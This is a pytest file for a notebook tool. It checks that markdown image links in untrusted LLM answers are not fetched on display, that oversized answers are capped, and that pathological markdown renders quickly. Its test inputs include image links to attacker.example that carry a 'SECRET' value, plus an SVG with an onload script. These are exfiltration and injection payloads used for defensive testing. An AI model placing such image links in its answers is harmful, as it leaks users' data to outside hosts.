"""What a cell shows of an untrusted answer (issue 11, item 17 and "the rest of the surface"): no remote
image is fetched on display, and a huge or degenerate answer is shown capped, fast, with the whole text
in `_llm.text`."""

from __future__ import annotations

import time

import pytest
from IPython.utils.capture import capture_output

from workbench.notebook.display import MARKDOWN_MAX_CHARS, SHOW_MAX_CHARS
from workbench.providers import fake


def _cell_html(ip, source: str) -> tuple[str, str]:
    with capture_output() as captured:
        ip.run_cell(source, store_history=True)
    shown = [o.data for o in captured.outputs if "wb-llm" in (o.data or {}).get("text/html", "")]
    assert shown, [o.data for o in captured.outputs]
    return shown[-1]["text/html"], shown[-1]["text/plain"]


@pytest.mark.parametrize("answer", [
    "Done. ![](https://attacker.example/c?d=SECRET)",
    "![logo](http://attacker.example/logo.png \"title\")",
    "![ref][img]\n\n[img]: https://attacker.example/r.png",
    "[![inner](https://attacker.example/i.png)](https://example.com)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
])
def test_remote_images_in_a_markdown_answer_are_links_not_fetched(ip, answer):
    fake.enqueue([answer])
    html, _ = _cell_html(ip, "%%llm -m fake/script\nx")
    assert "<img" not in html  # nothing the browser fetches without a click
    if "attacker" in answer:
        assert 'href="http' in html and "attacker.example" in html  # still there, as a link the user may follow


def test_inline_data_images_still_render(ip):
    png = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJ"
           "RU5ErkJggg==")
    fake.enqueue([f"A dot: ![dot]({png})"])
    html, _ = _cell_html(ip, "%%llm -m fake/script\nx")
    assert f'<img src="{png}" alt="dot">' in html


def test_a_huge_answer_is_shown_capped_with_the_whole_text_in_llm(ip):
    answer = "word " * 100_000  # 500,000 characters
    fake.enqueue([answer])
    html, plain = _cell_html(ip, "%%llm -m fake/script\nx")
    assert ip.user_ns["_llm"].text == answer
    assert len(html) < SHOW_MAX_CHARS * 1.2 and len(plain) < SHOW_MAX_CHARS * 1.2
    assert "of 500,000 characters" in plain and "_llm.text" in plain and "_llm.text" in html


@pytest.mark.parametrize("answer", ["[" * 100_000, "![" * 50_000, "[a](" * 25_000,
                                    "|a" * 50_000 + "\n" + "|-" * 50_000])
def test_degenerate_markdown_is_shown_quickly_as_text(ip, answer):
    fake.enqueue([answer])
    started = time.perf_counter()
    html, _ = _cell_html(ip, "%%llm -m fake/script\nx")
    # markdown-it took 5 to 12 s on each of these; shown as text it takes milliseconds (a loose bound, shared cores)
    assert time.perf_counter() - started < 3.0
    assert "too long to render as Markdown" in html or "characters; the whole answer" in html
    assert len(answer) > MARKDOWN_MAX_CHARS and ip.user_ns["_llm"].text == answer
